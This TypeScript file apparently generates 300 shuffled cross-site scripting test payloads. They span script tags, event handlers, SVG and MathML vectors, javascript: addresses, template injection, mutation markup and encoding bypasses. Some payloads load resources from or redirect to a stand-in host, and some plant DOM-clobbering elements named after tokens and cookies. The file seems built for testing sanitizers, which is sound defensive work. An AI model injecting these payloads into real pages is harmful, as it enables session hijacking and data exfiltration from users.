/** A text that would have an effect if a screen interpreted it as more than text. */
interface Payload {
  readonly number: number;
  readonly text: string;
}

/** Host that payloads would call: a name that cannot be registered. */
export const foreignHost = 'stranger.example';

/** `CODE` is replaced by the code to run, without quotes, brackets or spaces that would end an attribute. */
const shapes: readonly string[] = [
  // Tags
  '<script>CODE</script>',
  '<ScRiPt>CODE</sCrIpT>',
  '<script/x>CODE</script >',
  '<script type=module>CODE</script>',
  '<scr<script>ipt>CODE</scr</script>ipt>',
  '"><script>CODE</script>',
  "'><script>CODE</script>",
  '</title><script>CODE</script>',
  '</textarea><script>CODE</script>',
  '</style><script>CODE</script>',
  '</script><script>CODE</script>',
  '--><script>CODE</script>',
  ']]><script>CODE</script>',
  '<iframe srcdoc="<script>parent.CODE</script>">',
  '<template><script>CODE</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=CODE>">',
  // Attributes
  '<img src=x onerror=CODE>',
  '<img src=x:x onerror="CODE">',
  '<IMG SRC=x ONERROR=CODE>',
  '<img/src=x/onerror=CODE>',
  '<img src onerror=CODE//',
  '"><img src=x onerror=CODE>',
  '<image src=x onerror=CODE>',
  '<img src=data:, onload=CODE onerror=CODE>',
  '<body onload=CODE>',
  '<body onpageshow=CODE>',
  '<details open ontoggle=CODE>x',
  '<input autofocus onfocus=CODE>',
  '<select autofocus onfocus=CODE>',
  '<textarea autofocus onfocus=CODE>',
  '<p tabindex=1 autofocus onfocus=CODE>x',
  '<p contenteditable autofocus onfocus=CODE>x',
  '<b onmouseover=CODE>hover</b>',
  '<b onpointerenter=CODE>near</b>',
  '<b onclick=CODE>press</b>',
  '" onmouseover=CODE x="',
  "' onfocus=CODE autofocus x='",
  '` onmouseover=CODE x=`',
  '<video src=x onerror=CODE></video>',
  '<video><source onerror=CODE></video>',
  '<audio src=x onerror=CODE>',
  '<object data=x onerror=CODE>',
  '<link rel=stylesheet href=x onerror=CODE>',
  '<iframe onload=CODE></iframe>',
  '<marquee onstart=CODE>x</marquee>',
  '<style onload=CODE></style>',
  '<p style="animation:x 1s" onanimationstart=CODE>x',
  '<p oncontentvisibilityautostatechange=CODE style=content-visibility:auto>',
  '<button popovertarget=x>x</button><p popover id=x onbeforetoggle=CODE>',
  // SVG and MathML
  '<svg onload=CODE>',
  '<svg/onload=CODE>',
  '<svg><script>CODE</script></svg>',
  '<svg><script>&#67;ODE;CODE</script>',
  '<svg><animate onbegin=CODE attributeName=x dur=1s>',
  '<svg><set onbegin=CODE attributename=x>',
  '<svg><a href="javascript:CODE"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=CODE>#x">',
  '<svg><foreignObject><img src=x onerror=CODE></foreignObject></svg>',
  '<svg><image href=x onerror=CODE></svg>',
  '<math href="javascript:CODE">x</math>',
  '<math><mtext><img src=x onerror=CODE></mtext></math>',
  '<math><maction xlink:href=javascript:CODE>x',
  // Addresses
  'javascript:CODE',
  'JaVaScRiPt:CODE',
  'javascript://%0aCODE',
  'java&Tab;script:CODE',
  '&#106;avascript:CODE',
  'data:text/html,<script>CODE</script>',
  'vbscript:CODE',
  '<a href=javascript:CODE>open</a>',
  '<a href="java&NewLine;script:CODE">open</a>',
  '[open](javascript:CODE)',
  '![x](x"onerror="CODE)',
  '<iframe src=javascript:CODE>',
  '<iframe src="data:text/html,<script>CODE</script>">',
  '<embed src=javascript:CODE>',
  '<object data=javascript:CODE>',
  '<form action=javascript:CODE><button>x</button></form>',
  '<button form=x formaction=javascript:CODE>x</button>',
  '<meta http-equiv=refresh content="0;url=javascript:CODE">',
  // Templates
  '{{constructor.constructor(`CODE`)()}}',
  '${CODE}',
  '<%= CODE %>',
  '#{CODE}',
  '{{CODE}}',
  '$t(x, {"y":"<img src=x onerror=CODE>"})',
  '<Trans><img src=x onerror=CODE></Trans>',
  '__html:<img src=x onerror=CODE>',
  // Markup that changes when it is parsed a second time
  '<noscript><style></noscript><img src=x onerror=CODE></style>',
  '<math><mtext><table><mglyph><style><img src=x onerror=CODE></style>',
  '<svg></p><style><a id="</style><img src=x onerror=CODE>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=CODE>',
  '<xmp><p title="</xmp><img src=x onerror=CODE>">',
  '<!--><img src=x onerror=CODE>-->',
  '<![CDATA[><img src=x onerror=CODE>]]>',
  // Letters and encodings
  '&lt;img src=x onerror=CODE&gt;',
  '&amp;lt;img src=x onerror=CODE&amp;gt;',
  '%3Cimg src=x onerror=CODE%3E',
  String.raw`\u003cimg src=x onerror=CODE\u003e`,
  String.raw`\x3cimg src=x onerror=CODE\x3e`,
  '＜img src=x onerror=CODE＞',
  '‹img src=x onerror=CODE›<img src=x onerror=CODE>',
  '\u202E<img src=x onerror=CODE>',
  '+ADw-img src=x onerror=CODE+AD4-',
  "';CODE;//",
  '";CODE;//',
  '`;CODE;//',
];

/** Payloads that need no code: they would load from `HOST`, or create an element called `planted…`. */
const still: readonly string[] = [
  '<img src=HOST>',
  '<img srcset=HOST>',
  '<link rel=stylesheet href=HOST>',
  '<link rel=prefetch href=HOST>',
  '<script src=HOST></script>',
  '<iframe src=HOST></iframe>',
  '<base href=HOST>',
  '<meta http-equiv=refresh content="0;url=HOST">',
  '<style>@import "HOST";</style>',
  '<style>*{background:url(HOST)}</style>',
  '<p style="background:url(HOST)">',
  'url(HOST)',
  'red;background:url(HOST)',
  '}*{background:url(HOST)}',
  'expression(HOST)',
  '![x](https:HOST)',
  'https:HOST',
  '<form id=planted><input name=attributes></form>',
  '<a id=planted><a id=planted name=token href=HOST>',
  '<img name=planted><img name=cookie>',
  '<form name=planted><input name=body></form>',
  '<iframe name=planted srcdoc="<a id=x>">',
  '<svg><style>*{background:url(HOST)}</style>',
  '<dialog open id=planted>x</dialog>',
];

const actions: readonly ((number: number) => string)[] = [
  (number) => `__ran(${number})`,
  (number) => `alert(${number})`,
  (number) => `location=/\\/\\/${foreignHost}\\/${number}/.source`,
];

/** Shuffles reproducibly (Fisher and Yates, with a linear congruential generator). */
const shuffled = <One>(list: readonly One[], seed: number): One[] => {
  const result = [...list];
  let state = seed;
  for (let last = result.length - 1; last > 0; last -= 1) {
    state = (state * 1_103_515_245 + 12_345) % 2 ** 31;
    const other = Math.floor((state / 2 ** 31) * (last + 1));
    [result[last], result[other]] = [result[other] as One, result[last] as One];
  }
  return result;
};

const all = [
  ...still.map((text) => (number: number) => text.replaceAll('HOST', `//${foreignHost}/${number}`)),
  ...actions.flatMap((action) =>
    shapes.map((text) => (number: number) => text.replaceAll('CODE', () => action(number))),
  ),
];

/** 300 payloads, each of its own kind and number, shuffled. `__ran(number)` is the marker that pages expose. */
export const payloads: readonly Payload[] = shuffled(all, 20_261_121)
  .slice(0, 300)
  .map((spell, number) => ({ number, text: spell(number) }));
